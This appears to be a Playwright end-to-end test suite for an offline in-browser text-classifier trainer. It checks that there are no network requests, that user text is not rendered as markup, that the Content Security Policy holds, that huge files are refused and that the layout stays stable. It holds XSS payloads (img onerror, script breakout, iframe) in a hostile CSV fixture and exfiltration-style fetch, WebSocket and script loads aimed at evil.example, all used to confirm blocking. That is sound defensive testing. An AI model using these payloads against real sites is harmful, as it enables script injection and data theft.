/** What must not happen: a request with or after the user's texts, markup out of a table, a page that a hostile file takes down. */
import { readFileSync } from "node:fs";
import { join } from "node:path";
import { serveFolder } from "./server";
import { button, drop, expect, expectAccessible, heading, SAMPLE, screenshot, setOptions, test, TINY_FILES, TINY_READY, unzip, labelColumn, textColumn } from "./session";

const DIST = join(import.meta.dirname, "../../dist");

test.describe("a whole session", () => {
  test.use({ serviceWorkers: "allow", otherOrigins: [/^http:\/\/127\.0\.0\.1:\d+\//] });

  test("makes no request after the encoder is loaded, from the drop of a file to the last export", async ({ page, watch }) => {
    const served = await serveFolder(DIST);
    try {
      await page.goto(served.address);
      await expect(page.getByText("it also opens offline")).toBeVisible();
      await drop(page, "requests.csv", "text/csv", hostileTable());
      await expect(page.getByText("6 layers, hidden size 384, frozen")).toBeVisible();
      await page.waitForLoadState("networkidle");
      // Two witnesses: what the browser says it asks for, and what arrives at the only server there is.
      const [asked, arrived] = [watch.requests.length, served.requests.length];
      expect(arrived).toBeGreaterThan(5);

      await labelColumn(page).selectOption("1");
      await textColumn(page).selectOption("0");
      await setOptions(page, { Method: "Prompt tuning", Steps: "6", Evaluations: "2" });
      await button(page, "Train").click();
      await expect(heading(page, "Your classifier is ready")).toBeVisible();
      await page.getByRole("textbox").first().fill("<img src=/try.png> what comes of this?");
      const [download] = await Promise.all([page.waitForEvent("download"), button(page, "Download adapter").click()]);
      const adapter = unzip(readFileSync(await download.path()));
      expect(adapter.get("softprompt.json")!.toString()).toContain("<img src=x onerror=");

      // Everything else that the result can be exported as.
      const saved = async (name: RegExp, press: () => Promise<void>) => {
        const [file] = await Promise.all([page.waitForEvent("download", { timeout: 400_000 }), press()]);
        expect(file.suggestedFilename()).toMatch(name);
        return file;
      };
      await page.getByLabel("Choose a file to classify").setInputFiles({
        name: "more.csv",
        mimeType: "text/csv",
        buffer: Buffer.from("text\nwhat comes of <img src=/more.png> this?\nand of this\n"),
      });
      const labelled = page.getByRole("button", { name: /^Download .*-labelled/ });
      await expect(labelled).toBeVisible();
      await saved(/^more-labelled\.csv$/, () => labelled.click());
      await saved(/report\.html$/, () => button(page, "Download report").click());
      await saved(/classifier\.html$/, () => button(page, "Download as a web page").click());
      await expect(page.getByRole("alert")).toHaveCount(0);
      await button(page, "Your runs").click();
      await saved(/\.softprompt\.json$/, () => page.getByRole("button", { name: /^Export / }).click());
      await page.getByRole("button", { name: /^Open / }).click();
      await expect(heading(page, "Your classifier is ready")).toBeVisible();
      await page.waitForTimeout(1500);

      expect(watch.requests.slice(asked).filter((address) => !address.startsWith("blob:"))).toEqual([]);
      // The browser itself looks for a new version of the service worker, about a second after the page's last request.
      expect(served.requests.slice(arrived).filter((path) => path !== "/sw.js")).toEqual([]);
      // Nothing of the texts and labels became markup, and none of it ran.
      expect(await page.evaluate(() => (window as { pwned?: boolean }).pwned)).toBeUndefined();
      const markup = page.locator("main img, main script, main iframe, main [onclick], main [onerror], main b:has-text('x')");
      expect(await markup.evaluateAll((all) => all.map(({ outerHTML }) => outerHTML))).toEqual([]);
      await expectAccessible(page, "result with markup in labels");
      await screenshot(page, "hostile-labels", true);
    } finally {
      served.close();
    }
  });
});

/** Labels and texts that are markup, and one that would be another language's code. */
function hostileTable(): string {
  const labels = ["<img src=x onerror=window.pwned=true>", "</script><script>window.pwned=true</script>", "{@html '<b>x</b>'}"];
  const [, ...rows] = SAMPLE.trimEnd().split("\n");
  const lines = rows.slice(0, 60).map((row, index) => {
    const text = `<b onclick=alert(1)>${row.slice(0, row.lastIndexOf(",")).replaceAll('"', "")}</b> <iframe src=//evil.example>`;
    return `"${text}","${labels[index % labels.length]!.replaceAll('"', '""')}"`;
  });
  return ["text,label", ...lines].join("\n");
}

test.describe("the policy", () => {
  test.use({
    expectedErrors: [/Content Security Policy|violates the following|evil\.example/],
    otherOrigins: [/^(https|wss):\/\/evil\.example\//],
  });

  test("forbids what a page could be made to do", async ({ page }) => {
    await page.goto("");
    await button(page, "Try with sample data").click();
    await expect(page.getByText("700 rows, separated by commas")).toBeVisible();
    // In the page and in its worker: code from text, a script of another host, a request to another host.
    const attempts = async () => {
      const outcome = async (attempt: () => unknown) => {
        try {
          await attempt();
          return "worked";
        } catch (error) {
          return (error as Error).name;
        }
      };
      return {
        // Later, because what the debugger itself evaluates is excepted from the policy.
      code: await outcome(
        () =>
          new Promise((done, fail) =>
            setTimeout(() => {
              try {
                done(new Function("return 1")());
              } catch (error) {
                fail(error as Error);
              }
            }),
          ),
      ),
        request: await outcome(() => fetch("https://evil.example/?text=secret", { mode: "no-cors" })),
        socket: await outcome(
          () =>
            new Promise((open, fail) => {
              const socket = new WebSocket("wss://evil.example/");
              socket.onopen = open;
              socket.onerror = () => fail(new TypeError("refused"));
            }),
        ),
      };
    };
    const refused = { code: "EvalError", request: "TypeError", socket: "TypeError" };
    expect(await page.evaluate(attempts)).toEqual(refused);
    expect(await page.workers()[0]!.evaluate(attempts)).toEqual(refused);
    const scripts = await page.evaluate(async () => {
      const blocked: string[] = [];
      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => blocked.push(effectiveDirective));
      const inline = document.createElement("script");
      inline.textContent = "window.pwned = true";
      const other = document.createElement("script");
      other.src = "https://evil.example/x.js";
      const image = new Image();
      image.src = "https://evil.example/x.png";
      document.body.append(inline, other, image);
      await new Promise((go) => setTimeout(go, 300));
      // Each is told twice: by the policy of the page, and by that of the server.
      return { blocked: [...new Set(blocked)].sort(), pwned: (window as { pwned?: boolean }).pwned };
    });
    expect(scripts).toEqual({ blocked: ["img-src", "script-src-elem"], pwned: undefined });
  });
});

test("a file of a gigabyte is refused by its size, without being read", async ({ page }) => {
  await page.goto("");
  await button(page, "Try with sample data").click();
  await expect(page.getByText("700 rows, separated by commas")).toBeVisible();
  // Counts in the page and in its worker who looks into a file so large.
  const count = () => {
    const scope = globalThis as unknown as { looks: number };
    scope.looks = 0;
    for (const name of ["arrayBuffer", "stream", "text", "slice"] as const) {
      const look = Blob.prototype[name] as (this: Blob, ...given: unknown[]) => unknown;
      Object.assign(Blob.prototype, {
        [name](this: Blob, ...given: unknown[]) {
          if (this.size > 1e9) scope.looks++;
          return look.apply(this, given);
        },
      });
    }
  };
  const looks = () => (globalThis as unknown as { looks: number }).looks;
  const [worker] = page.workers();
  await page.evaluate(count);
  await worker!.evaluate(count);
  const drop = async (pieces: number) =>
    page.evaluate((pieces) => {
      // One piece again and again: a file of this size that takes no memory.
      const piece = new Blob([new Uint8Array(4 << 20).fill(97)]);
      const file = new File(Array.from({ length: pieces }, () => piece), "huge.csv", { type: "text/csv" });
      const transfer = new DataTransfer();
      transfer.items.add(file);
      document.body.dispatchEvent(new DragEvent("drop", { dataTransfer: transfer, bubbles: true, cancelable: true }));
      return file.slice(0, 1).size;
    }, pieces);
  expect(await drop(256)).toBe(1);
  await expect(page.getByRole("alert")).toContainText("huge.csv has 1074 MB");
  // The one look is the test's own: looks are seen.
  expect(await page.evaluate(looks)).toBe(1);
  expect(await worker!.evaluate(looks)).toBe(0);
  await expect(page.getByText("700 rows, separated by commas")).toBeVisible();
});

test("nothing on the page moves by itself", async ({ page }) => {
  await page.addInitScript(() => {
    const shifts: { value: number; nodes: string[] }[] = [];
    const places: number[] = [];
    Object.assign(window, { shifts, places });
    // What a hand is about to press, wherever that is on the page: also soon after a click, and outside of the window.
    const look = () => {
      const stop = [...document.querySelectorAll("button")].find((one) => one.textContent?.trim() === "Stop and keep best");
      if (stop) places.push(Math.round(stop.getBoundingClientRect().top + scrollY));
      requestAnimationFrame(look);
    };
    requestAnimationFrame(look);
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries() as (PerformanceEntry & {
        value: number;
        hadRecentInput: boolean;
        sources: { node?: Element | null }[];
      })[])
        if (!entry.hadRecentInput)
          shifts.push({ value: entry.value, nodes: entry.sources.map(({ node }) => node?.outerHTML?.slice(0, 90) ?? "?") });
    }).observe({ type: "layout-shift", buffered: true });
  });
  for (const [width, height, method] of [
    [1280, 900, "Prompt tuning"],
    [360, 740, "Prompt tuning"],
    [1280, 900, "Automatic"],
    [360, 740, "Automatic"],
    [320, 740, "Automatic"],
  ] as const) {
    await page.setViewportSize({ width, height });
    await page.goto("");
    await expect(page.getByText("Trains on CPU")).toBeVisible();
    await button(page, "Try with sample data").click();
    await expect(page.getByText("6 layers, hidden size 384, frozen")).toBeVisible();
    // The default encoder was seen to come; the training is with one that takes seconds for all of it.
    await page.getByLabel("Another file").setInputFiles(TINY_FILES);
    await expect(page.getByText(TINY_READY)).toBeVisible();
    await setOptions(page, { Method: method, Steps: "100", Evaluations: "4" });
    await button(page, "Train").click();
    await expect(heading(page, "Your classifier is ready")).toBeVisible();
    const places = await page.evaluate(() => (window as unknown as { places: number[] }).places);
    expect(places.length).toBeGreaterThan(10);
    expect([...new Set(places)], `${width} px, ${method}: where the button was`).toHaveLength(1);
    const shifts = await page.evaluate(() => (window as unknown as { shifts: { value: number; nodes: string[] }[] }).shifts);
    // A new stage is a new page, and the footer lies below what it holds.
    const moved = shifts.filter(({ nodes }) => !nodes.every((node) => node.startsWith("<footer")));
    const sum = moved.reduce((total, { value }) => total + value, 0);
    expect(sum, `${width} px, ${method}: ${JSON.stringify(moved, undefined, 1)}`).toBeLessThan(0.01);
    // The next visit begins with the default encoder again.
    await page.evaluate(() => localStorage.clear());
  }
});
